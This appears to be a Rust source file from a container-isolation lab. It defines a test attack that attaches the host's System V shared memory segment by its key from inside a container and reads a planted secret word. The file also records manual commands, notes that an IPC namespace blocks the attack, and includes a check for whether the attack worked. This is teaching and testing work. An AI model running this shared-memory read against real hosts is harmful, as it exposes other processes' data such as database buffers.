//! sysv-shm: read a System V shared memory segment of the host's.

use super::{Attack, Attempt, Measured};
use crate::places::SEGMENT_KEY;
use crate::{Host, Inside, Seen};
use nix::errno::Errno;
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "sysv-shm",
    stake: "What the host's processes share in memory: databases keep their buffers there.",
    story: "A System V segment has no file: its name is a number, and whoever knows the number and is the right \
            user attaches it. A root file system of the container's own hides nothing of it. The attacker \
            attaches the host's segment, in which a random word lies. An IPC namespace has numbers of its own, \
            and no segment under that one (ENOENT).",
    by_hand: &["[ -e /proc/self ] || mount -t proc proc /proc", "cat /proc/sysvipc/shm"],
    stopped_by: &["lab1-namespaces/ipc-namespace"],
    after: &[],
    man: &["shmget(2)", "shmat(2)", "ipc_namespaces(7)"],
    letters: Measured { root: "E EBBBBBB", user: "E EBBBBBB", rootless: "E EBBBBBB" },
    needs: &[],
    decisive: &[libc::SYS_shmget, libc::SYS_shmat],
    attack: Attack::Inside(inside),
    witness,
};

fn inside(me: &mut Inside) -> Result<(), Errno> {
    me.decisive(&format!("shmget({SEGMENT_KEY:#x}), shmat(SHM_RDONLY)"));
    let mut word = [0; 64];
    // SAFETY: shmget(2) with this size finds no smaller segment; it is attached for this one copy.
    unsafe {
        let id = Errno::result(libc::shmget(SEGMENT_KEY, word.len(), 0))?;
        let at = libc::shmat(id, std::ptr::null(), libc::SHM_RDONLY);
        if at as isize == -1 {
            return Err(Errno::last());
        }
        std::ptr::copy_nonoverlapping(at.cast(), word.as_mut_ptr(), word.len());
        libc::shmdt(at);
    }
    me.bring_out(&word);
    Ok(())
}

fn witness(host: &Host) -> Seen {
    if host.heard_secret("segment") {
        return Seen::Effect("the attacker knows what stands in the host's shared memory".into());
    }
    Seen::Nothing
}
